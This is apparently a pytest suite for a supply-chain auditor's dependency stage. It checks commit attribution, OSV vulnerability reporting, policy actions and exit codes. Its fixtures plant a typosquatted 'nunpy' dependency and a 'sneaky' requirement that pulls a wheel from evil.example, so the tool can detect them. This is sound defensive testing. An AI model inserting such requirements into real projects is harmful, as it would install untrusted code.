"""The deps stage end to end: a real git series, a bundle, a spec, and the CLI.

Each finding must name the series commit that introduced its line; an upstream dependency's
vulnerability is reported as inherited; the policy decides the action; the snapshot's digest and
date are in the result.
"""

import json
import shutil
from pathlib import Path

import pytest
from deps_osv_records import record, write_snapshot
from support import GitRepo, export_tree, write_spec
from typer.testing import CliRunner

from auditor.cli import app

SHA = "8798f27777fb57f447070301bf33a9f9c607f491"
FORK = "Fork Author <fork@community.example>"
CMAKE = ("cmake_minimum_required(VERSION 3.26)\n"
         "include(FetchContent)\n"
         "FetchContent_Declare(\n"
         "  cutlass\n"
         "  GIT_REPOSITORY https://github.com/nvidia/cutlass.git\n"
         "  GIT_TAG {tag}\n"
         ")\n")


@pytest.fixture(scope="module")
def case(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("deps-case")
    repo = GitRepo(tmp / "engine")
    repo.commit("initial", files={
        "engine/__init__.py": "VERSION = '1.0.0'\n",
        "requirements.txt": "fastapi==0.110.0\nuvicorn==0.29.0\noldlib==1.0\n",
        "pyproject.toml": '[project]\nname = "engine"\ndependencies = ["numpy==1.26.4"]\n',
        "CMakeLists.txt": CMAKE.format(tag=SHA),
    })
    repo.tag("v1.0.0")
    repo.checkout("series", new=True)
    c_url = repo.commit("faster json", author=FORK, files={
        "requirements.txt": "fastapi==0.110.0\nuvicorn==0.29.0\noldlib==1.0\n"
                            "turbo @ https://files.example/turbo-1.0-py3-none-any.whl\n"})
    c_cmake = repo.commit("sparse kernels", author=FORK, files={
        "CMakeLists.txt": CMAKE.format(tag="v3.5.1")
        + "FetchContent_Declare(sparse GIT_REPOSITORY https://github.com/fork/sparse.git "
          "GIT_TAG main)\n"
          f"FetchContent_Declare(dense GIT_REPOSITORY https://github.com/fork/dense.git "
          f"GIT_TAG {SHA})\n"})
    c_squat = repo.commit("numerics", author=FORK, files={
        "pyproject.toml": '[project]\nname = "engine"\ndependencies = [\n  "numpy==1.26.4",\n'
                          '  "nunpy==1.0.0",\n]\n'})
    c_remove = repo.commit("drop oldlib", author=FORK, files={
        "requirements.txt": "fastapi==0.110.0\nuvicorn==0.29.0\n"
                            "turbo @ https://files.example/turbo-1.0-py3-none-any.whl\n"})
    bundle = export_tree(repo, "series", tmp / "bundle")
    snapshot = write_snapshot(tmp / "osv", records={
        "PYSEC-2026-0100.json": record("PYSEC-2026-0100", "uvicorn",
                                       events=[{"introduced": "0"}, {"fixed": "0.30.0"}],
                                       database_specific={"severity": "MODERATE"},
                                       modified="2026-04-01T00:00:00Z"),
        "PYSEC-2026-0101.json": record("PYSEC-2026-0101", "fastapi",
                                       events=[{"introduced": "0"}, {"fixed": "0.100.0"}]),
    })
    spec = {
        "engine": {"profile": "generic", "version": "1.0.0"},
        "upstream": {"repo": str(repo.path), "ref": "v1.0.0"},
        "patches": {"ref": "series", "commits": [c_url, c_cmake, c_squat, c_remove]},
        "bundle": {"path": str(bundle)},
        "deps": {"vulns": f"osv:{snapshot}"},
    }
    return {"tmp": tmp, "repo": repo, "spec": spec, "bundle": bundle, "snapshot": snapshot,
            "commits": {"url": c_url, "cmake": c_cmake, "squat": c_squat, "remove": c_remove}}


def run_deps(spec_path: Path, *extra: str):
    res = CliRunner().invoke(app, ["deps", str(spec_path), "--json", *extra])
    data = json.loads(res.stdout) if res.stdout.strip() else None
    return res.exit_code, data, res.stderr


def by_rule(data, rule):
    return {f["snippet"] or f["message"]: f for f in data["findings"] if f["rule"] == rule}


@pytest.fixture(scope="module")
def result(case):
    path = write_spec(case["tmp"] / "audit.toml", case["spec"])
    return run_deps(path)


def test_findings_are_attributed_to_their_commits(case, result):
    code, data, err = result
    assert data is not None, err
    c = case["commits"]
    direct = [f for f in data["findings"] if f["rule"] == "dependency.direct-url"]
    assert len(direct) == 1
    assert (direct[0]["path"], direct[0]["line"], direct[0]["commit"]) == (
        "requirements.txt", 3, c["url"])
    assert direct[0]["action"] == "review" and direct[0]["inherited"] is False
    unpinned = [f for f in data["findings"] if f["rule"] == "dependency.unpinned-fetch"]
    # the cutlass block is upstream's; only its GIT_TAG line is the series' doing
    assert [(f["path"], f["line"], f["end_line"], f["commit"]) for f in unpinned] == [
        ("CMakeLists.txt", 3, 7, c["cmake"]), ("CMakeLists.txt", 8, None, c["cmake"])]
    assert "GIT_TAG 'v3.5.1'" in unpinned[0]["message"]
    assert "GIT_TAG 'main'" in unpinned[1]["message"]
    squat = [f for f in data["findings"] if f["rule"] == "dependency.typosquat"]
    assert [(f["path"], f["line"], f["commit"]) for f in squat] == [
        ("pyproject.toml", 5, c["squat"])]
    assert "'numpy'" in squat[0]["message"]
    removed = [f for f in data["findings"] if f["rule"] == "dependency.removed"]
    assert [(f["path"], f["commit"]) for f in removed] == [("requirements.txt", c["remove"])]


def test_vulnerabilities_and_source_are_reported(case, result):
    code, data, _ = result
    vulns = data["vulnerabilities"]
    assert [(v["id"], v["package"], v["version"], v["fixed"], v["severity"]) for v in vulns] == [
        ("PYSEC-2026-0100", "uvicorn", "0.29.0", ["0.30.0"], "medium")]
    assert vulns[0]["aliases"] == ["CVE-2026-0100"]
    finding = next(f for f in data["findings"] if f["rule"] == "dependency.vulnerable")
    assert finding["inherited"] is True and finding["commit"] is None
    assert finding["severity"] == "medium"
    src = data["source"]
    assert src["kind"] == "osv" and src["records"] == 2 and len(src["digest"]) == 64
    assert src["date"] == "2026-04-01T00:00:00Z"
    assert {"name": "fastapi", "version": "0.110.0"} in data["checked"]


def test_diff_and_sbom_fields(result):
    code, data, _ = result
    assert sorted(d["name"] for d in data["added"]) == ["dense", "nunpy", "sparse", "turbo"]
    assert [d["name"] for d in data["removed"]] == ["oldlib"]
    fetches = {f["name"]: f for f in data["cmake_fetches"]}
    assert fetches["sparse"]["tag"] == "main" and fetches["sparse"]["pinned"] is False
    assert fetches["dense"]["pinned"] is True
    assert fetches["dense"]["repository"] == "https://github.com/fork/dense.git"
    assert [c["name"] for c in data["changed"]] == ["cutlass"]
    bundle = {d["name"]: d for d in data["bundle"]}
    assert bundle["numpy"]["version"] == "1.26.4" and bundle["turbo"]["kind"] == "url"


def test_what_cannot_be_looked_up_makes_it_incomplete(result):
    code, data, _ = result
    assert code == 3 and data["status"] == "incomplete"
    # one reason for everything unpinned (generic profile: the whole tree is deployed) ...
    unpinned = [n for n in data["not_checked"] if "unpinned deployed" in n]
    assert len(unpinned) == 1
    assert unpinned[0].startswith("vulnerabilities of 3 unpinned deployed requirement(s) "
                                  "not checked (cutlass, sparse, turbo): give [deps] lock")
    # ... with the list in the details; a CMake fetch pinned to a full sha is not in it
    listed = {(d["name"], d["why"]) for d in data["unpinned_deployed"]}
    assert listed == {
        ("turbo", "a direct URL/VCS requirement has no version to look up"),
        ("sparse", "a CMake fetch has no PyPI version to look up"),
        ("cutlass", "a CMake fetch has no PyPI version to look up")}
    assert data["surface"]["target"] == "all" and data["surface"]["globs"] == ["**"]
    # the snapshot's newest record (2026-04-01) is far older than the 14-day default
    aged = [n for n in data["not_checked"] if "OSV snapshot is" in n]
    assert len(aged) == 1 and "newest record modified 2026-04-01" in aged[0]
    assert "max_age_days = 14" in aged[0]


def test_policy_decides_the_action(case):
    policy = case["tmp"] / "strict.toml"
    policy.write_text('[actions]\ndependency = "review"\n[[override]]\n'
                      'rule = "dependency.typosquat"\naction = "block"\n')
    spec = {**case["spec"], "scan": {"policy": str(policy)}}
    code, data, _ = run_deps(write_spec(case["tmp"] / "strict-audit.toml", spec))
    actions = {f["rule"]: f["action"] for f in data["findings"]}
    assert actions["dependency.typosquat"] == "block"
    assert actions["dependency.direct-url"] == "review"
    assert code == 1  # a blocking finding: FAIL outranks INCOMPLETE


def test_a_corrupt_record_makes_the_stage_incomplete_and_is_named(case):
    snap = case["tmp"] / "osv-corrupt"
    shutil.copytree(case["snapshot"], snap)
    (snap / "GHSA-corrupt.json").write_text('{"id": "GHSA-x", "affected": 5}')
    spec = {**case["spec"], "deps": {"vulns": f"osv:{snap}"}}
    code, data, _ = run_deps(write_spec(case["tmp"] / "corrupt.toml", spec))
    assert code == 3
    assert any("GHSA-corrupt.json" in n and "corrupt" in n for n in data["not_checked"])
    assert [v["id"] for v in data["vulnerabilities"]] == ["PYSEC-2026-0100"]


def test_vulns_none_is_not_checked_and_no_deps_section_is_not_requested(case):
    spec = {**case["spec"], "deps": {"vulns": "none"}}
    code, data, _ = run_deps(write_spec(case["tmp"] / "none.toml", spec))
    assert code == 3
    assert "vulnerabilities: not checked (deps.vulns = none)" in data["not_checked"]
    spec = {k: v for k, v in case["spec"].items() if k != "deps"}
    code, data, _ = run_deps(write_spec(case["tmp"] / "nodeps.toml", spec))
    assert code == 2 and data["status"] == "not-requested"


def test_a_bundle_line_no_commit_explains_is_flagged(case, tmp_path):
    bundle = export_tree(case["repo"], "series", tmp_path / "bundle")
    (bundle / "requirements.txt").write_text(
        (bundle / "requirements.txt").read_text() + "sneaky @ https://evil.example/s.whl\n")
    spec = {**case["spec"], "bundle": {"path": str(bundle)}}
    code, data, err = run_deps(write_spec(tmp_path / "audit.toml", spec))
    if data is None or data["status"] == "incomplete" and not data["findings"]:
        pytest.skip(f"verify publishes no workspace for a mismatching bundle: {err[-300:]}")
    sneaky = [f for f in data["findings"] if f["rule"] == "dependency.direct-url"
              and "sneaky" in f["message"]]
    assert sneaky and sneaky[0]["commit"] is None and sneaky[0]["inherited"] is False
    assert "no listed commit" in sneaky[0]["message"]


def test_a_bad_osv_url_is_a_spec_error_naming_the_key(case):
    spec = {**case["spec"], "deps": {"vulns": "pip-audit", "osv_url": "ftp://osv.example/q"}}
    res = CliRunner().invoke(app, ["deps", str(write_spec(case["tmp"] / "bad.toml", spec))])
    assert res.exit_code == 2
    assert "[deps.osv_url]" in res.stderr and "http(s) URL" in res.stderr
